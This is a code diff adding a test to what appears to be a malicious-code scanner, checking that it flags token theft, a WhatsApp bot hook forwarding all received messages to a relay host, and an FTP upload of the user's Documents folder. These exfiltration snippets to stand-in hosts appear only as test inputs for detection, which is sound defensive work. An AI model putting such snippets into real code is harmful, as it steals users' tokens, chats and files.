@@ -562,3 +562,13 @@ test('a name in a text is the text that it is given', () => {
   assert.equal(worstOf('const base = `https://${"stats"}.example/${version}`; fetch(`${base}/k`, { headers: { k: process.env.NPM_TOKEN } })'), 'high');
   assert.equal(worstOf('const base = `https://npm.pkg.github.com/${name}`; fetch(`${base}/k`, { headers: { k: process.env.NPM_TOKEN } })'), 'nothing');
 });
+
+test('what a library of chats hears, and folders that are copied to a server', () => {
+  const severity = (text: string) => findingsOf(rule, { 'a.js': text })[0]?.severity ?? 'nothing';
+  const bot = (body: string) => `const makeWASocket = require("@whiskeysockets/baileys").default; const s = makeWASocket({}); s.ev.on("messages.upsert", async (m) => { ${body} });`;
+  assert.equal(severity(bot('await fetch("https://relay.example/u", { method: "POST", body: JSON.stringify(m.messages) })')), 'high');
+  for (const body of ['await fetch(settings.url, { method: "POST", body: JSON.stringify(m.messages) })', 'await s.sendMessage(m.messages[0].key.remoteJid, { text: "hi" })']) assert.equal(severity(bot(body)), 'nothing', body);
+  const ftp = (path: string) => `const { Client } = require("basic-ftp"), os = require("os"), path = require("path"); const c = new Client(); await c.access({ host: "ftp.example", user: "u", password: word }); await c.uploadFromDir(${path}, "in")`;
+  assert.equal(severity(ftp('path.join(os.homedir(), "Documents")')), 'high');
+  for (const path of ['"dist"', 'path.join(os.homedir(), "site", "out")', 'process.argv[2]']) assert.equal(severity(ftp(path)), 'nothing', path);
+});
